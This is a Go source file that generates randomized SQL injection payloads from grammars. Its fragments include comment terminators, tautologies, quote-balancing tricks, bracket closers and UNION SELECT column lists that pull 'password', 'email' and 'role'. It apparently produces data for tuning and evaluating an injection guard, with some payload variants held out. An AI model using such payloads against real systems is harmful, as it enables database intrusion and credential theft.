package sqli

import (
	"fmt"
	"regexp"
	"strconv"
	"strings"
)

// A craft makes payloads for one hole.
type craft struct {
	*dice
	site   site
	hole   hole
	bodies grammar
	forms  grammar
	// noQuotes says that the application spoils every quote.
	noQuotes bool
	// short asks for short payloads.
	short bool
	// left is what of the expansion may still be drawn: recursion ends.
	left int
}

const expansions = 60

// heldOut says which productions are missing where the guard is tuned: one in
// seven of the longer ones.
func heldOut(production string) bool { return len(production) > 6 && hash(production)%7 == 0 }

func (c *craft) payload() string {
	c.left = expansions
	p := c.expand(c.draw(c.forms[c.hole.form]))
	return c.disguise(strings.TrimLeft(p, " "))
}

func (c *craft) draw(productions []string) string {
	best := ""
	for range 50 {
		p := productions[c.IntN(len(productions))]
		switch {
		case !c.all && heldOut(p):
		case !c.short:
			return p
		case best == "" || len(p) < len(best) && c.chance(60):
			best = p
			if c.chance(40) {
				return best
			}
		}
	}
	if best == "" {
		return productions[0]
	}
	return best
}

var names = regexp.MustCompile(`\{[^{}]+\}`)

// paired are names whose text has every quote paired.
var paired = map[string]bool{"bool": true, "scalar": true, "union": true, "stack": true, "clause": true, "query": true, "query1": true, "error": true, "time": true, "truth": true, "blind": true, "cond": true, "mark": true}

func (c *craft) expand(production string) string {
	return names.ReplaceAllStringFunc(production, func(found string) string {
		name := found[1 : len(found)-1]
		if c.left--; c.left < 0 {
			return c.last(name)
		}
		for _, g := range []grammar{c.bodies, c.forms} {
			if productions, ok := g[name]; ok {
				text := c.expand(c.draw(productions))
				if paired[name] && (c.noQuotes || c.chance(8)) {
					text = c.relit(text)
				}
				return text
			}
		}
		return c.terminal(name)
	})
}

// last is what a name becomes where an expansion has grown too long.
func (c *craft) last(name string) string {
	switch name {
	case "bool", "truth", "blind", "cond", "time", "error":
		return "1=1"
	case "query", "query1":
		return "select 1"
	case "scalar", "mark", "fn":
		return "version()"
	case "union":
		return "union select 1"
	case "stack":
		return "select 1"
	case "clause", "clause2":
		return "limit 1"
	}
	if productions, ok := c.bodies[name]; ok {
		return productions[0]
	}
	return c.terminal(name)
}

func (c *craft) terminal(name string) string {
	switch name {
	case "int":
		return fmt.Sprint(oneOf(c.dice, c.IntN(10), c.IntN(10000)))
	case "pos":
		return fmt.Sprint(1 + c.IntN(6))
	case "byte":
		return fmt.Sprint(40 + c.IntN(80))
	case "big":
		return fmt.Sprint((1 + c.IntN(9)) * 1000000)
	case "sec":
		return oneOf(c.dice, "1", "2", "5", "0.5", "10")
	case "hex":
		return c.hexDigits(8)
	case "w":
		return c.letters(oneOf(c.dice, 1, 2, 3, 5))
	case "w1":
		return c.letters(1)
	case "dir":
		return oneOf(c.dice, "asc", "desc")
	case "op":
		return oneOf(c.dice, "+", "-", "*", "%", "^", "||")
	case "secretname":
		return oneOf(c.dice, "password", "email", "role")
	case "s":
		return "'" + c.letters(oneOf(c.dice, 0, 1, 3, 5)) + "'"
	case "eq":
		n := oneOf(c.dice, c.IntN(10), c.IntN(10000))
		return fmt.Sprintf(oneOf(c.dice, "%d=%d", "%d=%[1]d", "%[1]d=%[1]d", "%[1]d=%[1]d", "%[1]d like %[1]d", "'%[1]d'='%[1]d'", "%[1]d-0=%[1]d", "%[1]d<=%[1]d"), n, n)
	case "columns", "nulls":
		return c.columns(name == "nulls")
	}
	return c.around(name)
}

// around are terminals that fit the statement around the hole.
func (c *craft) around(name string) string {
	h := c.hole
	switch name {
	case "lead":
		return c.lead()
	case "q":
		brackets := h.depth
		if c.chance(15) {
			brackets = c.IntN(4)
		}
		return strings.Trim(h.open, "/*-") + strings.Repeat(")", brackets)
	case "cm":
		return oneOf(c.dice, "--", "-- ", "-- -", "--+", " -- "+c.letters(2), "--"+c.letters(3), "--", "--", ";--", "; -- ", ";", "", "/**/--", "--;", "-- '", "/* "+c.letters(2)+"*/--")
	case "x":
		return map[string]string{"/*": "*/", "--": "\n"}[h.open]
	case "again":
		return map[string]string{"/*": oneOf(c.dice, "/*", "/* ", "/*"+c.letters(3)), "--": oneOf(c.dice, "--", "-- ", "--"+c.letters(2))}[h.open]
	case "bal":
		w := c.letters(1 + c.IntN(3))
		return fmt.Sprintf(oneOf(c.dice, "'%[1]s'='%[1]s", "''='", "'%[1]s' like '%[1]s", "'%[1]s'<>'x", "'%[1]s'>'", "length('%[1]s')>0 and '1'='1", "1::text='1", "'%[1]s' is not null and 'a'='a", "'%[1]s'||'"), w)
	case "row":
		tail, _ := c.fill(h.rowTail, "")
		return tail
	case "again row":
		head, _ := c.fill(h.rowHead, "")
		return "(" + head + c.lead()
	}
	return name
}

// lead is what stands where an ordinary value would.
func (c *craft) lead() string {
	switch c.hole.form {
	case "bare", "list", "limit", "bare values", "bare set":
		return oneOf(c.dice, fmt.Sprint(1+c.IntN(30)), fmt.Sprint(1+c.IntN(30)), "-1", "0", "999999", "1")
	case "sort", "direction", "name", "relation", "quoted name", "quoted relation":
		return c.ordinary(c.hole.kind)
	case "comment":
		return oneOf(c.dice, "", c.letters(3), " ")
	case "words":
		return oneOf(c.dice, "", c.ordinary("word"), c.letters(3))
	}
	if c.short {
		return oneOf(c.dice, "", "", c.letters(1))
	}
	return oneOf(c.dice, "", "", c.letters(1), c.letters(4), c.ordinary(c.hole.kind), "-1", "1", "%")
}

// columns are what a UNION selects, most often as many as the statement does
// and of its types.
func (c *craft) columns(nulls bool) string {
	types := c.site.cols
	if types == "" || c.chance(15) {
		types = strings.Repeat("?", 1+c.IntN(7))
	}
	columns := make([]string, len(types))
	for i, kind := range types {
		columns[i] = "null"
		switch {
		case nulls || c.chance(20):
		case kind == 't' && c.left > 0:
			columns[i] = oneOf(c.dice, "password", "email", "{s}", "{mark}", "({query1})", "{scalar}", "name")
		case kind == 'i' || kind == 'n':
			columns[i] = oneOf(c.dice, "{int}", "id", "null", "length(({query1}))", "{int}", "1")
		case kind == 'd':
			columns[i] = oneOf(c.dice, "now()", "null", "current_timestamp")
		case kind == '?':
			columns[i] = oneOf(c.dice, "null", "{int}", "{s}", strconv.Itoa(i+1))
		}
	}
	return c.expand(strings.Join(columns, oneOf(c.dice, ",", ",", ", ")))
}
